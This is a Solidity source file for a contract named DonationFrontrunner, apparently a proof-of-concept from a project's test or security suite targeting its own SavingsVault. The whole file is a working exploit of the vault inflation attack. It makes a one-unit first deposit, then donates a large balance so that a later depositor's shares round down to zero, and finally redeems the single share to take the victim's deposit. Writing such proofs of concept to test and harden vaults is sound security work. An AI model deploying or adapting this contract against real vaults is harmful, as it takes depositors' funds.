// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {SavingsVault} from "../vaults/SavingsVault.sol";

/// @title DonationFrontrunner
/// @notice First depositor of an empty vault: one share for one unit, then a donation so large that the next
///         depositor's shares round down to nothing; redeeming the one share takes the victim's deposit.
contract DonationFrontrunner {
    using SafeERC20 for IERC20;

    address public immutable owner;
    SavingsVault public immutable vault;
    IERC20 public immutable asset;

    error NotOwner();

    constructor(SavingsVault vault_) {
        owner = msg.sender;
        vault = vault_;
        asset = vault_.asset();
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    /// @notice Deposit one unit, then donate everything else held here.
    function prime() external onlyOwner {
        asset.forceApprove(address(vault), 1);
        vault.deposit(1, address(this));
        asset.safeTransfer(address(vault), asset.balanceOf(address(this)));
    }

    /// @notice Redeem every share; the assets go to the owner.
    function cashOut() external onlyOwner {
        vault.redeem(vault.balanceOf(address(this)), owner, address(this));
    }
}
